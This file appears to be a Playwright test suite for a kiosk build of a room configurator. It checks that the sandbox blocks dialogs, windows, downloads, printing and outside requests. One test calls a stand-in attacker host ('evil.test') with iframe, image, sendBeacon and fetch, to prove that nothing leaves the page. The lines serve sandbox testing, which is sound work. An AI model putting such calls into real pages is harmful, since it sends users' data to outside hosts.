import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, type Page, test } from '@playwright/test'
import { ConfiguratorPage } from '#tests/pages/configurator-page.ts'
import { copyOfTemplate, removeFolder, startPortal } from '#tests/support/portal.ts'
import { FLOOR } from '#tests/support/sample.ts'
import { type MountedProgram, startProgram } from './support/program.ts'

let program: MountedProgram | null = null

test.beforeAll(async () => {
  program = await startProgram()
})

test.afterAll(async () => {
  await program?.stop()
})

function origin(): string {
  if (!program) throw new Error('The program does not run')
  return program.origin
}

/** What the page makes of something that would reach beyond it. */
async function tryIt(page: Page, script: string): Promise<unknown> {
  return page.evaluate(`(() => { try { return ${script} } catch (error) { return String(error.name) } })()`)
}

test.describe('the built program, whose scheme is mounted on a port', () => {
  test('decision 36: shows a page without any portal, and nothing fails', async ({ page }) => {
    const failed: string[] = []
    page.on('requestfailed', (request) => failed.push(request.url()))
    page.on('response', (response) => {
      if (response.status() >= 400) failed.push(`${response.status()} ${response.url()}`)
    })
    page.on('pageerror', (error) => failed.push(error.message))
    await page.goto(`${origin()}/`)
    await expect(page.locator('html')).toHaveAttribute('data-shell', 'kiosk')
    await expect(page.locator('#root > *').first()).toBeVisible()
    await page.waitForLoadState('networkidle')
    expect(failed).toEqual([])
  })

  test('decision 36: shows a room of a project, chosen on and priced, and its sandbox stands in no way', async ({
    page,
  }) => {
    const folder = copyOfTemplate(process.env['PORTAL_TEMPLATE'] ?? '', 'kiosk-program')
    const portal = await startPortal({ dataFolder: folder })
    const settings = { portal_url: portal.url, account_id: 'demo', project_id: 'lindenhof', attract_loop: false }
    const other = await startProgram(settings)
    const wrong: string[] = []
    page.on('requestfailed', (request) => wrong.push(`failed ${request.url()}`))
    page.on('response', (response) => {
      if (response.status() >= 400) wrong.push(`${response.status()} ${response.url()}`)
    })
    page.on('console', (message) => {
      if (message.type() === 'error') wrong.push(message.text())
    })
    try {
      const configurator = new ConfiguratorPage(page)
      await page.goto(`${other.origin}/mp/demo/lindenhof/musterwohnung-3z/configurator/bathroom`)
      await configurator.choose(FLOOR.title, FLOOR.option)
      await configurator.waitForPicture()
      expect(wrong).toEqual([])
    } finally {
      await other.stop()
      await portal.kill()
      removeFolder(folder)
    }
  })

  test('decision 37: a page in its sandbox opens no dialog of the browser, no window, and keeps no file', async ({
    page,
    context,
  }) => {
    await page.goto(`${origin()}/`)
    const happened: string[] = []
    page.on('dialog', (dialog) => {
      happened.push(dialog.type())
      void dialog.dismiss()
    })
    page.on('download', (download) => happened.push(download.suggestedFilename()))
    context.on('page', () => happened.push('window'))
    expect(await tryIt(page, 'window.open("about:blank")')).toBeNull()
    await tryIt(page, 'alert(1)')
    expect(await tryIt(page, 'confirm("x")')).toBe(false)
    expect(await tryIt(page, 'prompt("x")')).toBeNull()
    await page.evaluate(() => {
      const link = document.createElement('a')
      link.href = URL.createObjectURL(new Blob(['x'], { type: 'application/pdf' }))
      link.download = 'a.pdf'
      document.body.append(link)
      link.click()
      const popup = document.createElement('a')
      popup.href = '/'
      popup.target = '_blank'
      document.body.append(popup)
      popup.click()
    })
    await page.waitForTimeout(500)
    expect(happened).toEqual([])
    expect(context.pages()).toHaveLength(1)
  })

  test('decision 37: printing does nothing', async ({ page }) => {
    await page.goto(`${origin()}/`)
    const printed = await page.evaluate(() => {
      let count = 0
      addEventListener('beforeprint', () => (count += 1))
      print()
      return count
    })
    expect(printed).toBe(0)
  })

  test('decision 37: a frame of another host stays empty, and the page reaches no other', async ({ page }) => {
    await page.goto(`${origin()}/`)
    const reached: string[] = []
    await page.context().route(/evil\.test/, (route) => {
      reached.push(route.request().url())
      return route.fulfill({ body: 'reached' })
    })
    await page.evaluate(async () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.test/frame'
      document.body.append(frame)
      const image = new Image()
      image.src = 'https://evil.test/image'
      document.body.append(image)
      navigator.sendBeacon('https://evil.test/beacon', 'x')
      await fetch('https://evil.test/fetch').catch(() => null)
    })
    await page.waitForTimeout(300)
    expect(reached).toEqual([])
  })

  test('KSK-18: a page in its sandbox still leaves for the return address', async ({ page }) => {
    await page.route('https://www.lindenhof.example/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: 'other website' }),
    )
    await page.goto(`${origin()}/`)
    await page.evaluate(() => location.assign('https://www.lindenhof.example/'))
    await expect(page.getByText('other website')).toBeVisible()
  })

  test('decision 37: where saving is allowed, the page may keep a file', async ({ page }) => {
    const other = await startProgram({ allow_print: true })
    try {
      await page.goto(`${other.origin}/`)
      const download = page.waitForEvent('download')
      await page.evaluate(() => {
        const link = document.createElement('a')
        link.href = URL.createObjectURL(new Blob(['x'], { type: 'application/pdf' }))
        link.download = 'a.pdf'
        document.body.append(link)
        link.click()
      })
      expect((await download).suggestedFilename()).toBe('a.pdf')
    } finally {
      await other.stop()
    }
  })

  test('KSK-20: is as large on a 4K screen as on one of 1080 lines', () => {
    expect(program?.output()).toContain('ZOOM 2\n')
  })

  test('decision 36: counts its starts, finds no fault, and ends when the system asks', async () => {
    const other = await startProgram()
    const versions = readFileSync(join(other.dataFolder, 'versions.json'), 'utf8')
    expect(JSON.parse(versions)).toMatchObject({ starts: 1, is_healthy: false })
    expect(existsSync(join(other.dataFolder, 'logs', 'kiosk.log'))).toBe(false)
    await other.stop()
    expect(other.output()).toMatch(/EXIT 0\n$/)
  })
})
